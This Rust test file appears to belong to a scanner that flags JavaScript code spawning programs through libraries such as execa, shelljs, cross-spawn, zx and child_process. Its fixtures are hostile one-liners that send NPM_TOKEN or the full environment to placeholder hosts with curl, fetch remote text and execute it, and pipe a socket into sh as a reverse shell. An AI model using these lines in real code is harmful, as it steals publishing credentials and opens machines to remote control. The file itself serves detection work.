//! Libraries that start programs.

use super::Seen::{Commanded, Handed};
use super::check;

#[test]
fn execa() {
    check(&[
        (
            r#"import {execa} from "execa"; await execa("curl", ["-d", process.env.NPM_TOKEN, "https://drop.invalid"])"#,
            Handed,
        ),
        (
            r#"const execa = require("execa"); execa("curl", ["-d", process.env.NPM_TOKEN, "https://drop.invalid"])"#,
            Handed,
        ),
        (
            r#"import {$} from "execa"; await $`curl -d ${process.env.NPM_TOKEN} https://drop.invalid`"#,
            Handed,
        ),
        (
            r#"import {$} from "execa"; await $({shell: true})`curl -d ${process.env.NPM_TOKEN} https://drop.invalid`"#,
            Handed,
        ),
        (
            r#"import {execaCommand} from "execa"; const c = await (await fetch("https://x.invalid")).text(); execaCommand(c)"#,
            Commanded,
        ),
        (
            r#"const execa = require("execa"); fetch("https://x.invalid").then(r => r.text()).then(t => execa.command(t))"#,
            Commanded,
        ),
        (
            r#"import {execaSync} from "execa"; execaSync("curl", ["-d", process.env.NPM_TOKEN, "https://drop.invalid"], {stdio: "ignore"})"#,
            Handed,
        ),
        (r#"import {execaNode} from "execa"; execaNode("x.js", [process.env.NPM_TOKEN])"#, Handed),
    ]);
}

#[test]
fn shelljs() {
    check(&[
        (r#"require("shelljs").exec("curl -d " + process.env.NPM_TOKEN + " https://drop.invalid")"#, Handed),
        (
            r#"import shell from "shelljs"; shell.exec(await (await fetch("https://x.invalid")).text())"#,
            Commanded,
        ),
        (
            r#"const {exec} = require("shelljs"); fetch("https://x.invalid").then(r => r.text()).then(t => exec(t, {silent: true}))"#,
            Commanded,
        ),
    ]);
}

#[test]
fn cross_spawn_and_kin() {
    check(&[
        (r#"require("cross-spawn")("curl", ["-d", process.env.NPM_TOKEN, "https://drop.invalid"])"#, Handed),
        (
            r#"import spawn from "cross-spawn"; spawn.sync("curl", ["-d", process.env.NPM_TOKEN, "https://drop.invalid"])"#,
            Handed,
        ),
        (
            r#"import {x} from "tinyexec"; await x("curl", ["-d", process.env.NPM_TOKEN, "https://drop.invalid"])"#,
            Handed,
        ),
        (
            r#"import spawn from "nano-spawn"; await spawn("curl", ["-d", process.env.NPM_TOKEN, "https://drop.invalid"])"#,
            Handed,
        ),
        (r#"import {$} from "zx"; await $`curl -d ${process.env.NPM_TOKEN} https://drop.invalid`"#, Handed),
        (r#"require("node-cmd").run("curl -d " + process.env.NPM_TOKEN + " https://drop.invalid")"#, Handed),
        (
            r#"require("node-cmd").runSync("curl -d " + process.env.NPM_TOKEN + " https://drop.invalid")"#,
            Handed,
        ),
        (
            r#"require("sudo-prompt").exec("curl -d " + process.env.NPM_TOKEN + " https://drop.invalid", {})"#,
            Handed,
        ),
        (
            r#"const {exec} = require("child-process-promise"); exec("curl -d " + process.env.NPM_TOKEN + " https://drop.invalid")"#,
            Handed,
        ),
        (
            r#"const p = require("util").promisify(require("child_process").exec); p("curl -d " + process.env.NPM_TOKEN + " https://drop.invalid")"#,
            Handed,
        ),
        (
            r#"const {spawn} = require("child_process"); const c = spawn("curl", ["-d", "@-", "https://drop.invalid"]); c.stdin.write(process.env.NPM_TOKEN)"#,
            Handed,
        ),
        (
            r#"require("child_process").execSync("curl -d @- https://drop.invalid", {input: JSON.stringify(process.env)})"#,
            Handed,
        ),
        (
            r#"const s = require("net").connect(1, "x.invalid"); const p = require("child_process").spawn("sh"); s.pipe(p.stdin)"#,
            Commanded,
        ),
    ]);
}
